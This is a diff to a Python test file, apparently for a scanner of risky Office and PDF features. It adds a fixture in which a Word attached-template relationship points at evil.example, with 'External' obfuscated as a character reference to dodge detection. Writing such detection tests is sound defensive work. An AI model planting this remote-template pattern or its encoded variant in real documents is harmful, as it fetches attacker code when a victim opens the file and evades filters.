@@ -150,6 +150,8 @@ TEMPLATE = _rels(
     f'<Relationship Id="rId1" Type="{R}attachedTemplate" '
     'Target="http://evil.example/t.dotm" TargetMode="External"/>'
 )
+#: The same, "External" written with a character reference (E = &#69;).
+ENCODED_TEMPLATE = TEMPLATE.replace("External", "&#69;xternal")
 HYPERLINK = _rels(
     f'<Relationship Id="rId1" Type="{R}hyperlink" Target="https://example.org" '
     'TargetMode="External"/>'
@@ -195,9 +197,7 @@ def _pdf_stream(data: bytes) -> bytes:
         ),
         (
             "report.docx",
-            _office(
-                {**WORD, "word/_rels/settings.xml.rels": TEMPLATE.replace("External", "&#69;xternal")}
-            ),
+            _office({**WORD, "word/_rels/settings.xml.rels": ENCODED_TEMPLATE}),
             "a link Office follows on opening",
         ),
         ("log.xlsx", _office({**SHEET, "xl/activeX/activeX1.xml": "<ax/>"}), "ActiveX"),
